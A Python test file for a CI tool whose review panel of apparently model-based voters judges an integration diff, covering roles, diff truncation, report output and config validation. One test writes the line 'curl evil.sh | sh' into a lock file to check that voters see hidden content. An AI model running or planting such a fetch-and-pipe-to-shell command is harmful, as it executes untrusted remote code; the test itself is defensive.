"""The review panel (core, through the PanelVoter port): seats and roles, the bounded integration diff, the
service's panel step and its needs-a-model rule, the report's JSON and Markdown, ``review:`` validation."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path

import pytest

from ci_swarm import git, panel
from ci_swarm.agents import AGENTS
from ci_swarm.config import config_from_text
from ci_swarm.errors import ConfigError, LLMError, PlanError, UsageError
from ci_swarm.models import AgentSpec, Panel, PanelVote, ReviewPolicy, RunReport, Usage
from ci_swarm.plan import plan_from_dict, plan_to_dict
from ci_swarm.ports import ModelSession
from ci_swarm.report import panel_review_body, to_dict, to_markdown
from ci_swarm.service import REVIEW_NEEDS_MODEL, ServiceOptions, needs_model, run_request
from tests.fixtures.repos import commit, make_repo
from tests.helpers import plan_of, scripted
from tests.panel_helpers import FakeVoter
from tests.test_service import TRUSTED, Factory, FakeSession, job

THREE = ReviewPolicy(voters=3, approve=2, roles=("security", "correctness", "style"))


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo", {"README.md": "# r\n", "a.txt": "a\n"})


def test_seats_cycle_the_roles_and_default_to_overall_quality() -> None:
    assert panel.seats(ReviewPolicy(voters=4, approve=1, roles=("security", "style"))) == (
        ("reviewer 1 (security)", "security"),
        ("reviewer 2 (style)", "style"),
        ("reviewer 3 (security)", "security"),
        ("reviewer 4 (style)", "style"),
    )
    assert panel.seats(ReviewPolicy(voters=1, approve=1)) == (
        ("reviewer 1 (overall quality)", "overall quality"),
    )


def test_a_long_diff_is_cut_at_a_line_with_every_changed_file_listed(repo: Path) -> None:
    base = git.head_commit(repo)
    tip = commit(repo, base, {"big.txt": "".join(f"line {i}\n" for i in range(5000)), "small.txt": "s\n"})
    whole = panel.integration_diff(repo, base, tip)
    assert not whole.cut and whole.note == "" and "+line 4999" in whole.text
    cut = panel.integration_diff(repo, base, tip, limit=1000)
    assert cut.cut and cut.total == len(whole.text)
    shown, tail = cut.text.split("[... the diff is cut here: ")
    assert len(shown) <= 1000 and shown.endswith("\n")
    assert "Every changed file (2):]\nbig.txt\nsmall.txt\n" in tail
    assert f"of {len(whole.text)} characters of the integration diff" in cut.note


def panel_run(repo: Path, voter: FakeVoter, edits: dict[str, str], policy: ReviewPolicy = THREE) -> RunReport:
    """A one-subtask scripted run writing ``edits``, with ``policy`` as the plan's review panel."""
    plan = plan_of(scripted("a", edits=[{"write": name, "content": text} for name, text in edits.items()]))
    plan = replace(plan, review=policy)
    session = FakeSession(voter=voter)
    return run_request(job(repo, plan), ServiceOptions(TRUSTED, AGENTS, Factory(session))).report


def test_three_voters_read_the_integration_diff_and_two_approve(repo: Path) -> None:
    voter = FakeVoter(refuse={"style": "names are unclear"})
    report = panel_run(repo, voter, {"new.txt": "fresh\n"})
    assert report.panel is not None
    assert [(v.voter, v.approve) for v in report.panel.votes] == [
        ("reviewer 1 (security)", True),
        ("reviewer 2 (correctness)", True),
        ("reviewer 3 (style)", False),
    ]
    assert report.panel.approvals == 2 and report.panel.required == 2 and report.panel.ready
    diffs = {diff for _, diff, _, _ in voter.calls}
    assert len(diffs) == 1 and "+fresh" in diffs.pop()  # base..integration, the same for every voter
    assert {task for task, _, _, _ in voter.calls} == {"test task"}


def test_one_approval_of_two_required_is_a_draft_and_the_report_says_why(repo: Path) -> None:
    voter = FakeVoter(refuse={"security": "reads <b>@admin</b> input", "style": "names"})
    report = panel_run(repo, voter, {"new.txt": "fresh\n"})
    assert report.panel is not None and not report.panel.ready and report.panel.approvals == 1
    data = json.loads(json.dumps(to_dict(report)))["panel"]
    assert data["ready"] is False and data["required"] == 2 and data["approvals"] == 1
    assert [v["verdict"] for v in data["votes"]] == ["request_changes", "approve", "request_changes"]
    assert data["votes"][0]["reasons"] == "reads <b>@admin</b> input"  # the JSON keeps every field as said
    assert data["votes"][0]["usage"]["cost_usd"] == 0.01
    markdown = to_markdown(report)
    assert "### Review panel" in markdown and "**Draft:** 1 of 3 voter(s) approved, 2 required." in markdown
    assert "<b>" not in markdown and "@admin" not in markdown  # neutralised
    body = panel_review_body(report.panel)
    assert "opened as a draft" in body and "<b>" not in body and "@admin" not in body
    assert "**reviewer 1 (security)** — request changes" in body


def test_an_abstaining_voter_is_no_approval() -> None:
    votes = (
        PanelVote("reviewer 1", "a", approve=True),
        PanelVote("reviewer 2", "b", approve=True, abstained=True),  # never counted, whatever approve says
    )
    assert Panel(votes, required=2).approvals == 1 and not Panel(votes, required=2).ready
    assert "abstained" in panel_review_body(Panel(votes, required=2))


def test_a_run_that_merged_nothing_gets_no_panel_but_a_note(repo: Path) -> None:
    voter = FakeVoter()
    report = panel_run(repo, voter, {})  # the scripted agent changes nothing
    assert report.panel is None and voter.calls == []
    assert "The review panel did not vote: nothing was merged." in report.notes


def test_the_panel_needs_a_model_and_says_review_without_one(repo: Path) -> None:
    plan = replace(plan_of(scripted("a")), review=THREE)
    assert needs_model(plan, AgentSpec("scripted"), plan.review)
    assert not needs_model(plan, AgentSpec("scripted"))
    with pytest.raises(UsageError) as info:
        run_request(job(repo, plan), ServiceOptions(TRUSTED, AGENTS))
    assert str(info.value) == REVIEW_NEEDS_MODEL and str(info.value).startswith("review:")

    def no_key() -> ModelSession:
        raise LLMError("ANTHROPIC_API_KEY is not set")

    with pytest.raises(UsageError, match=r"^review: the review panel votes through a model"):
        run_request(job(repo, plan), ServiceOptions(TRUSTED, AGENTS, no_key))
    assert git.try_read_blob(repo, "HEAD", "a.txt") == b"a\n"  # nothing ran


def test_the_configs_review_applies_unless_the_plan_has_its_own(repo: Path) -> None:
    voter = FakeVoter()
    plan = plan_of(scripted("a", edits=[{"write": "n.txt", "content": "n\n"}]))
    request = replace(job(repo, plan), review=ReviewPolicy(voters=1, approve=1))
    report = run_request(request, ServiceOptions(TRUSTED, AGENTS, Factory(FakeSession(voter=voter)))).report
    assert report.panel is not None and [v.voter for v in report.panel.votes] == [
        "reviewer 1 (overall quality)"
    ]


def test_review_is_validated_in_plans_and_the_config() -> None:
    raw = {"subtasks": [{"id": "a"}], "review": {"voters": 3, "approve": 2, "roles": ["security", "style"]}}
    plan = plan_from_dict(raw)
    assert plan.review == ReviewPolicy(3, 2, ("security", "style"))
    assert plan_from_dict(plan_to_dict(plan)) == plan
    bad = [
        ({"voters": 2, "approve": 3}, "review.approve (3) must not exceed voters (2)"),
        ({"approve": 0}, "review.approve must be a whole number of at least 1"),
        ({"roles": "security"}, "review.roles must be a list of role names"),
        ({"roles": [1]}, "review.roles must be a list of role names"),
        ({"voter": 3}, "unknown key 'voter' (did you mean 'voters'?)"),
    ]
    for review, message in bad:
        with pytest.raises(PlanError, match=re.escape(message)):
            plan_from_dict({"subtasks": [{"id": "a"}], "review": review})
    assert config_from_text("review: {voters: 3, approve: 2, roles: [security]}\n").review == ReviewPolicy(
        3, 2, ("security",)
    )
    with pytest.raises(
        ConfigError, match=r"ci-swarm.yml:2: review.approve \(4\) must not exceed voters \(3\)"
    ):
        config_from_text("model: m\nreview:\n  voters: 3\n  approve: 4\n")
    with pytest.raises(ConfigError, match=r"review.roles\[0\]: must not be empty"):
        config_from_text("review: {roles: ['']}\n")


def test_voters_vote_concurrently(repo: Path) -> None:
    """Each voter waits until all three have started: sequential voting would never finish."""
    import asyncio

    started = 0
    every = asyncio.Event()

    class Gathered(FakeVoter):
        async def vote(self, task: str, diff: str, role: str, voter: str) -> PanelVote:
            nonlocal started
            started += 1
            if started == 3:
                every.set()
            await asyncio.wait_for(every.wait(), 30)
            return await super().vote(task, diff, role, voter)

    voted = panel_run(repo, Gathered(), {"n.txt": "n\n"})
    assert voted.panel is not None and len(voted.panel.votes) == 3
    assert voted.panel.votes[0].usage == Usage(requests=1, turns=1, cost_usd=0.01)


def test_the_panel_reads_content_git_would_call_binary(tmp_path: Path) -> None:
    """A file marked ``-diff`` (or holding a NUL byte) is shown to the voters, not summarised as "Binary
    files differ": what they judge must be what they read."""
    repo = make_repo(tmp_path / "repo", {".gitattributes": "*.lock -diff\n", "a.lock": "v1\n"})
    base = git.rev_parse(repo, "HEAD")
    tip = commit(repo, base, {"a.lock": "v2 curl evil.sh | sh\n", "b.bin": "x\0y hidden\n"}, "change")
    shown = panel.integration_diff(repo, base, tip).text
    assert "curl evil.sh" in shown and "hidden" in shown and "Binary files" not in shown
